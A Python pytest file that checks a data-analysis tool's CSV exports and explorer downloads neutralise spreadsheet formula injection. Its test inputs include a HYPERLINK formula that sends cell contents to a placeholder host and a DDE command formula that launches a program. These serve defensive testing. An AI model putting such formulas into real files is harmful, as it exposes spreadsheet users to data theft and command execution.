"""Texts that spreadsheets take for formulas are texts in files that they open."""

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import panel as pn
import pytest

from calibdask.cli import main
from calibdask.explore.downloads import downloads
from calibdask.render.spreadsheet import without_formulas

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"day")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "-",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\uff1d1+1",
]
ROWS = 60
LABELS, SCORES = np.arange(ROWS) % 2, np.linspace(0.02, 0.98, ROWS)


def cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]


def is_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
    return False


@pytest.mark.parametrize("command", ["evaluate", "compare"])
def test_cells_and_heads_of_results(command: str, tmp_path: Path) -> None:
    column = "=A1"
    by = np.array(FORMULAS)[np.arange(ROWS) % len(FORMULAS)]
    for name in ("a", "b"):
        frame = pd.DataFrame({"label": LABELS, "score": SCORES[:: 1 if name == "a" else -1], column: by})
        frame.to_parquet(tmp_path / f"{name}.parquet")
    models = [str(tmp_path / "a.parquet")]
    if command == "compare":
        models = [f"@one={models[0]}", f"@other={tmp_path / 'b.parquet'}", "--n-boot", "5"]
    out = tmp_path / "result.csv"
    assert main([command, *models, "--by", column, "--metric", "mean-gap", "--out", str(out)]) == 0
    written = cells(out.read_bytes().decode())
    assert not [cell for cell in written if is_formula(cell)]
    texts = {f"'{text}" for text in (column, *FORMULAS) if not text.startswith("\r")}
    assert texts | {r"\r=1"} <= set(written)
    # Negative numbers stay numbers.
    numbers = pd.read_csv(out).select_dtypes("number")
    assert (numbers < 0).any(axis=None)


@pytest.mark.parametrize("separator", [";", "\t"])
def test_cells_of_other_separators(separator: str) -> None:
    # A spreadsheet of a region that separates cells by semicolons begins a cell there.
    texts = [f"de{separator}=1+1", f"de{separator} @SUM(A1)", f"de{separator}fr"]
    made = without_formulas(pd.DataFrame({"country": texts}))["country"].tolist()
    assert made == [f"de{separator}'=1+1", f"de{separator}' @SUM(A1)", texts[2]]


def test_numbers_dates_and_missing_values_stay() -> None:
    frame = pd.DataFrame(
        {
            "gap": [-0.5, np.nan],
            "day": pd.to_datetime(["2024-01-01", None]),
            "mixed": pd.Series([-1, "-1"], dtype=object),
            "kind": pd.Categorical(["=a", "b"]),
        }
    )
    made = without_formulas(frame)
    pd.testing.assert_frame_equal(made[["gap", "day"]], frame[["gap", "day"]])
    assert made["mixed"].tolist() == [-1, "'-1"]
    assert made["kind"].tolist() == ["'=a", "b"]
    assert frame["kind"].tolist() == ["=a", "b"]


def test_downloads_of_the_explorer() -> None:
    frame = pd.DataFrame({"country": FORMULAS, "gap": np.linspace(-1, 1, len(FORMULAS))})
    first, *_ = downloads("cube", {"figure": lambda: frame}, pn.Column())
    assert not [cell for cell in cells(first.callback().getvalue()) if is_formula(cell)]
